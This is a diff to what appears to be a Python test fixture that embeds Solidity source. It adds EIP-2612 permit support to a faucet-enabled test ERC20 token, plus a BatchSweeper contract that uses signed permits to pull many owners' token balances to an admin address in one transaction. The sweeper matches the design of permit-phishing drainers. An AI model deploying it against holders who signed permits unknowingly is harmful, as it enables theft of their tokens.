@@ -562,12 +562,112 @@ contract TestERC20 is ERC20 {
     function faucet(uint256 amount) public {
         _mint(msg.sender, amount);
     }
+
+    // EIP-2612
+    mapping(address => uint256) public nonces;
+
+    bytes32 public constant PERMIT_TYPEHASH =
+        keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
+
+    function DOMAIN_SEPARATOR() public view returns (bytes32) {
+        return keccak256(
+            abi.encode(
+                keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)"),
+                keccak256(bytes(name())),
+                keccak256(bytes("1")),
+                block.chainid,
+                address(this)
+            )
+        );
+    }
+
+    function permit(
+        address owner,
+        address spender,
+        uint256 value,
+        uint256 deadline,
+        uint8 v,
+        bytes32 r,
+        bytes32 s
+    ) public {
+        require(block.timestamp <= deadline, "ERC20Permit: expired deadline");
+        bytes32 structHash = keccak256(
+            abi.encode(PERMIT_TYPEHASH, owner, spender, value, nonces[owner]++, deadline)
+        );
+        bytes32 digest = keccak256(abi.encodePacked("\\x19\\x01", DOMAIN_SEPARATOR(), structHash));
+        address signer = ecrecover(digest, v, r, s);
+        require(signer != address(0) && signer == owner, "ERC20Permit: invalid signature");
+        _approve(owner, spender, value);
+    }
+}
+
+// File: contracts/BatchSweeper.sol
+
+pragma solidity 0.8.19;
+
+
+interface IERC20Permit {
+    function permit(
+        address owner,
+        address spender,
+        uint256 value,
+        uint256 deadline,
+        uint8 v,
+        bytes32 r,
+        bytes32 s
+    ) external;
+}
+
+// pulls many permit-signed token balances to the admin in one transaction,
+// a pull that fails is skipped and reported with PullFailed
+contract BatchSweeper {
+    struct Pull {
+        address token;
+        address owner;
+        uint256 value;
+        uint256 deadline;
+        uint8 v;
+        bytes32 r;
+        bytes32 s;
+    }
+
+    address public immutable admin;
+
+    event Pulled(address indexed token, address indexed owner, uint256 value);
+    event PullFailed(address indexed token, address indexed owner, uint256 value);
+
+    constructor() {
+        admin = msg.sender;
+    }
+
+    function sweep(Pull[] calldata pulls) external {
+        require(msg.sender == admin, "BatchSweeper: caller is not the admin");
+        for (uint256 i = 0; i < pulls.length; i++) {
+            _pull(pulls[i]);
+        }
+    }
+
+    function _pull(Pull calldata p) internal {
+        // a permit front-run by someone else already set the allowance, the pull is still tried
+        try IERC20Permit(p.token).permit(p.owner, address(this), p.value, p.deadline, p.v, p.r, p.s) {} catch {}
+        try IERC20(p.token).transferFrom(p.owner, admin, p.value) returns (bool ok) {
+            if (ok) {
+                emit Pulled(p.token, p.owner, p.value);
+                return;
+            }
+        } catch {}
+        emit PullFailed(p.token, p.owner, p.value);
+    }
 }
 """
 
 
 compiled_sol = compile_source(ERC20_SOL, output_values=["abi", "bin"])
 
-contract_id, contract_interface = compiled_sol.popitem()
+contract_interface = compiled_sol["<stdin>:TestERC20"]
 bytecode = contract_interface["bin"]
 abi = contract_interface["abi"]
+
+batch_sweeper_interface = compiled_sol["<stdin>:BatchSweeper"]
+batch_sweeper_bytecode = batch_sweeper_interface["bin"]
+batch_sweeper_abi = batch_sweeper_interface["abi"]